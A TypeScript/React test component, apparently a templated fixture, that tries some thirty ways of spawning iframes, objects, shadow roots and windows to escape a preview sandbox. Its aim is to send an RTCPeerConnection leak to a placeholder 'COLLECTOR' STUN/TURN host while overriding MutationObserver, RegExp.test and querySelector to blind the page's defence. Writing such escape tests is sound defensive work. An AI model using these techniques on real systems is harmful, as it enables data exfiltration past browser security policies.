import { useEffect, useState } from "react";

// A fresh realm has WebRTC again. Each way is tried with scripts of the frame's own page, which the
// policy allows, with one that speaks for itself, and with a runtime of ours for the boot script.
const LEAK =
  "const peer = new RTCPeerConnection({ iceServers: [{ urls: ['stun:COLLECTOR', 'turn:COLLECTOR?transport=tcp']," +
  " username: 'a', credential: 'b' }] });" +
  "peer.createDataChannel('leak');" +
  "peer.createOffer().then((offer) => peer.setLocalDescription(offer));" +
  "top.postMessage('escaped', '*');";
const scripts = [...document.scripts].map((script) => script.text);
const known = [...new Set([...scripts, BOOT, LEAK])];
const markup = known.map((text) => `<script>${text}</script>`).join("");
const attribute = markup.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
const frame = `<iframe srcdoc="${attribute}"></iframe>`;

function handOver(target: Window | null) {
  const { port1 } = new MessageChannel();
  target?.postMessage({ runtime: LEAK, icons: "{}" }, "*", [port1]);
}

function element(tag: string, attributes: Record<string, string>, space = "http://www.w3.org/1999/xhtml") {
  const made = document.createElementNS(space, tag);
  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
  return made;
}

function parsed(text: string, type: DOMParserSupportedType = "text/html") {
  return new DOMParser().parseFromString(text, type);
}

const xhtml = `<html xmlns="http://www.w3.org/1999/xhtml"><body><iframe srcdoc="${attribute.replaceAll("<", "&lt;")}"/></body></html>`;
const blob = URL.createObjectURL(new Blob([markup], { type: "text/html" }));
const data = `data:text/html,${encodeURIComponent(markup)}`;
const script = `javascript:${encodeURIComponent(JSON.stringify(markup))}`;
const add = (...nodes: Node[]) => nodes.forEach((node) => document.body.append(node));
const first = (within: Document, tag: string) => within.getElementsByTagName(tag)[0] as any;
const real = () => first(parsed(frame), "iframe");
const withSource = (source: string) => {
  const made = first(parsed("<iframe></iframe>"), "iframe");
  made.src = source;
  return made;
};

const ways: Record<string, () => void> = {
  createElement: () => add(element("iframe", { srcdoc: markup })),
  srcdoc: () => add(document.importNode(real(), true)),
  blank: () => add(withSource("about:blank")),
  blank_then_script: () => {
    const made = withSource("about:blank");
    add(made);
    made.contentWindow!.location.href = script;
  },
  javascript: () => add(withSource(script)),
  data: () => add(withSource(data)),
  blob: () => add(withSource(blob)),
  own_page: () => add(withSource("/preview/frame")),
  object: () => {
    for (const address of ["about:blank", "about:srcdoc", data, blob, script, "/preview/frame"]) {
      add(element("object", { data: address, type: "text/html" }));
    }
  },
  embed: () => {
    for (const address of ["about:blank", data, blob, script, "/preview/frame"]) {
      add(element("embed", { src: address, type: "text/html" }));
    }
  },
  area: () => {
    const area = element("area", { href: script, target: "_self", shape: "default" }) as HTMLAreaElement;
    add(area);
    area.click();
  },
  area_blank: () => {
    const area = element("area", { href: blob, target: "_blank" }) as HTMLAreaElement;
    add(area);
    area.click();
  },
  frame: () => {
    const made = first(parsed("<frameset><frame></frameset>"), "frame");
    made.setAttribute("src", blob);
    add(made, document.adoptNode(first(parsed("<frameset><frame></frameset>"), "frameset")));
  },
  open_shadow: () => {
    const host = document.createElement("div");
    add(host);
    host.attachShadow({ mode: "open" }).append(real());
  },
  closed_shadow: () => {
    const host = document.createElement("div");
    host.attachShadow({ mode: "closed" }).append(real());
    setTimeout(() => add(host));
  },
  cloned_shadow: () => {
    const host = document.createElement("div");
    host.attachShadow({ mode: "open", clonable: true }).append(real());
    add(host.cloneNode(true), document.importNode(host, true), host);
  },
  nested_shadow: () => {
    const [outer, inner] = [document.createElement("div"), document.createElement("div")];
    inner.attachShadow({ mode: "closed" }).append(real());
    outer.attachShadow({ mode: "closed" }).append(inner);
    add(outer);
  },
  declarative_shadow: () => {
    const template = `<div><template shadowrootmode="open" shadowrootclonable>${frame}</template></div>`;
    const host = document.createElement("div");
    add(host);
    (host as any).setHTMLUnsafe?.(template);
    const page = (Document as any).parseHTMLUnsafe?.(template);
    if (page) add(document.adoptNode(first(page, "div")));
    for (const node of parsed(template).body.children) add(document.importNode(node, true));
    host.insertAdjacentHTML("beforeend", template);
  },
  import_node: () => add(document.importNode(parsed(frame).body, true)),
  adopt_node: () => add(document.adoptNode(real())),
  parser_xhtml: () => add(first(parsed(xhtml, "application/xhtml+xml"), "iframe")),
  parser_svg: () =>
    add(
      parsed(
        `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>${xhtml}</foreignObject></svg>`,
        "image/svg+xml",
      ).documentElement,
    ),
  template: () => {
    const template = document.createElement("template");
    template.innerHTML = frame;
    add(template.content.cloneNode(true));
  },
  fragment: () => add(document.createRange().createContextualFragment(frame)),
  write: () => {
    document.open();
    document.write(frame);
    Reflect.apply(HTMLDocument.prototype.write, document, [frame]);
    const other = document.implementation.createHTMLDocument();
    other.write(frame);
    add(document.importNode(other.body, true));
  },
  edit: () => {
    document.designMode = "on";
    document.getSelection()!.selectAllChildren(document.body);
    document.execCommand("insertHTML", false, frame);
  },
  open: () => {
    for (const target of ["", "_blank", "_self", "_parent", "_top", "named"]) {
      const opened = window.open("", target);
      if (opened) handOver(opened);
      Reflect.apply((window as any).open, window, [script, target]);
    }
  },
  portal: () => add(element("portal", { src: blob }), parsed(`<portal src="${blob}"></portal>`).body),
  fencedframe: () => add(element("fencedframe", { src: blob }), parsed(`<fencedframe></fencedframe>`).body),
  inner_html: () => {
    const host = document.createElement("div");
    add(host);
    host.innerHTML = frame;
  },
  outer_html: () => {
    const host = document.createElement("div");
    add(host);
    host.outerHTML = frame;
  },
  adjacent_html: () => document.body.insertAdjacentHTML("beforeend", frame),
  stylesheet: () => {
    const sheet = parsed(
      `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">` +
        `<html><body><iframe/></body></html></xsl:template></xsl:stylesheet>`,
      "text/xml",
    );
    const processor = new XSLTProcessor();
    processor.importStylesheet(sheet);
    const made = processor.transformToFragment(parsed("<a/>", "text/xml"), document);
    const nested = made.ownerDocument.createTreeWalker(made, NodeFilter.SHOW_ELEMENT);
    while (nested.nextNode()) (nested.currentNode as Element).setAttribute("srcdoc", markup);
    add(made);
  },
  same_tick: () => {
    const made = real();
    add(made);
    made.contentWindow!.postMessage("hear", "*");
    made.remove();
    add(made);
  },
};

// What the way's defence reads may not be what hostile code says.
for (const name of ["addedNodes", "target"]) {
  Object.defineProperty(MutationRecord.prototype, name, { get: () => [] });
}
Object.defineProperty(window, "length", { get: () => 0 });
Document.prototype.querySelector = DocumentFragment.prototype.querySelector = () => null;
RegExp.prototype.test = () => false;
MutationObserver.prototype.disconnect = MutationObserver.prototype.observe = () => {};

export default function Realm() {
  const [said, say] = useState("Trying");
  useEffect(() => {
    try {
      ways["WAY"]?.();
    } finally {
      const timer = setInterval(() => {
        for (let at = 0; at < 4; at++) handOver(frames[at] ?? null);
        for (const each of document.body.getElementsByTagName("*")) handOver((each as any).contentWindow);
      }, 20);
      setTimeout(() => {
        clearInterval(timer);
        say("Waited");
      }, 1500);
    }
  }, []);
  const html = "WAY" === "react_html" ? { __html: frame } : { __html: "" };
  return (
    <div>
      {"WAY" === "react" ? <iframe srcDoc={markup} /> : null}
      <p>{said}</p>
      <div dangerouslySetInnerHTML={html} />
    </div>
  );
}
